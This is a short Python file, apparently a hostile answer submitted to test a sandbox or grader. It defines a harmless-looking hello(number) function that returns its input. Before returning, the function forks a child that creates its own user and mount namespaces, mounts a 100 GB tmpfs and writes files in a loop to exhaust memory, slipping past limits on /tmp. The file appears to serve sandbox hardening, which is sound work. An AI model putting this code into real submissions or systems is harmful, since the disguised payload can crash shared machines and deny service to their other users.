# %%answer hello_ranks
# tries: mounts memory file systems without a limit in a namespace of its own, and fills them
# unprotected: a limit on /tmp does not hold there
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
NEW_USER_AND_MOUNTS = 0x10000000 | 0x00020000


def fill():
    maps = {"setgroups": "deny", "uid_map": f"0 {os.getuid()} 1", "gid_map": f"0 {os.getgid()} 1"}
    if libc.unshare(NEW_USER_AND_MOUNTS):
        return
    for name, text in maps.items():
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    os.makedirs("/tmp/own", exist_ok=True)
    if libc.mount(b"none", b"/tmp/own", b"tmpfs", 0, b"size=100g"):
        return
    for index in range(10**6):
        with open(f"/tmp/own/{index}", "wb") as file:
            for _ in range(32):
                file.write(b"x" * 2**20)


def hello(number):
    child = os.fork()  # with one thread: else the kernel gives it no namespace of users
    if child == 0:
        try:
            fill()
        finally:
            os._exit(0)
    os.waitpid(child, 0)
    return number
